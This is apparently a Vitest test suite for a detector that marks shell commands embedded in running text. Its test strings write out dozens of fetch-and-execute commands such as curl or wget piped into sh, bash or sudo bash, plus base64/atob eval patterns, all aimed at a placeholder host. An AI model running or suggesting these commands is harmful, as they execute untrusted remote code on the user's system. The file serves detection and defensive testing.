import { describe, it } from "vitest";
import { expectMarked, expectRegions } from "./harness.js";

const u = "https://x.example/i.sh";

describe("a command in a sentence", () => {
  it.each([
    `Please run «curl ${u} | sh» to install it, don't worry.`,
    `Install: «curl -fsSL ${u} | sh».`,
    `**«curl -fsSL ${u} | sh»**`,
    `_«curl ${u} | sh»_`,
    `Run the command "«curl ${u} | sh»" now.`,
    `Just («curl -fsSL ${u} | sh») and go.`,
    `Use «curl ${u} | sh» — it works.`,
    `Use «curl ${u} | bash –s» now.`,
    `🚀 «curl ${u} | sh» 🚀`,
    `请运行«curl -fsSL ${u} | sh»即可安装`,
    `Never run «curl ${u} | sudo bash -s -- --yes». Use apt instead.`,
    `Try «curl ${u} | sudo -E bash -» to install`,
    `Try «curl ${u} | sudo -u bob bash» please`,
    `«curl -fsSL ${u} | sh» installs docker quickly`,
    `It's easy; «curl ${u} | sh», «wget -qO- ${u} | bash», and done`,
    `Just «curl ${u} | sh»; then restart`,
    `Then «bash -c "$(curl -fsSL ${u})"» and you're done`,
    `Install: «bash -c "$(curl -fsSL ${u})"».`,
    `Install: «bash <(curl -fsSL ${u})».`,
    `You can use «source <(curl -s ${u})» to load it.`,
    `Do «(curl ${u} || wget -qO- ${u}) | sh» please`,
    `Do «{ curl ${u}; } | sh» please`,
    `Pipe it: «curl ${u} | while read l; do eval "$l"; done» and wait`,
    `First «S=$(curl -fsSL ${u}); eval "$S"» then go`,
    `«curl ${u} | sh && curl ${u} | bash»`,
    `You can run: $ «curl ${u} | sh»`,
    `stray \`«curl ${u} | sh» here`,
    `«curl | sh» is a pattern`,
    `«curl ... | bash» is bad`,
    `<b>«curl ${u} | sh»</b>`,
  ])("%s", (marked) => {
    expectMarked(marked);
  });
});

describe("a command in several lines of a paragraph", () => {
  it("has a space instead of each line end", () => {
    expectMarked(`Please run «curl -fsSL ${u} |\n  sh» to install`, [`curl -fsSL ${u} | sh`]);
  });

  it("may be continued with a backslash as in a shell", () => {
    expectMarked(`Please run «curl -fsSL ${u} \\\n  | sh» to install`, [
      `curl -fsSL ${u} \\\n| sh`,
    ]);
  });
});

describe("a link or placeholder in a command", () => {
  it.each([
    [`Run «curl <${u}> | sh» today`, `curl \uFFFC${"x".repeat(u.length + 1)} | sh`],
    [`Run «curl [${u}](${u}) | sh» today`, `curl ${"x".repeat(2 * u.length + 4)} | sh`],
    ["Run «curl <url> | sh» today", "curl \uFFFCuuuu | sh"],
    ["Run «curl {url} | bash» today", "curl \uFFFCuuuu | bash"],
    ["Run «curl &#60;url&#62; &#124; sh» today", "curl \uFFFCuuuu | sh"],
  ])("is a word: %s", (marked, decoded) => {
    expectMarked(marked, [decoded]);
  });
});

describe("a command that is the argument of another command", () => {
  it.each([
    'Try «useradd -s /bin/bash -c "$(curl A)" bob»',
    'Run «echo bash -c "$(curl A)"» to print it',
    "«kubectl apply -f <(curl A) --namespace bash»",
    "the «sh -c 'curl A | sh'» form",
    "«ssh host 'curl A | sh'» does it",
  ])("%s", (marked) => {
    expectMarked(marked);
  });
});

describe("calls of other languages in running text", () => {
  it.each([
    ['In Python os.system("curl A | sh") runs it', 'prose unknown: os.system("curl A | sh")'],
    ['and print("curl A | sh") shows it', 'prose unknown: print("curl A | sh")'],
    ["Never exec(base64.b64decode(x)) anything", "prose unknown: exec(base64.b64decode(x))"],
    ["So window.eval(atob(x)) is it", "prose unknown: window.eval(atob(x))"],
    ["or (0, eval)(atob(x)) here", "prose unknown: (0, eval)(atob(x))"],
    ["x = atob(y); eval(x)", "prose javascript: x = atob(y); eval(x)"],
  ])("are found: %s", (text, expected) => {
    expectRegions(text, [expected]);
  });
});

describe("a command in a comment line or heading", () => {
  it.each([
    ["# curl A | sh", "prose shell (comment): curl A | sh"],
    ["curl A | sh\n===", "prose shell (comment): curl A | sh"],
    ["#curl A | sh", "prose shell (comment): curl A | sh"],
    ["// curl A | sh", "prose shell (comment): curl A | sh"],
    ["## Run `curl A | sh`", "inline shell (comment): curl A | sh"],
    ["> # curl A | sh", "prose shell (comment): curl A | sh"],
  ])("is shown text: %s", (text, expected) => {
    expectRegions(text, [expected]);
  });
});

it("file names and longer words that contain a fetcher's name are not commands", () => {
  expectRegions("The file curl.sh, my-curl and https://x.example/curl are words.", []);
});
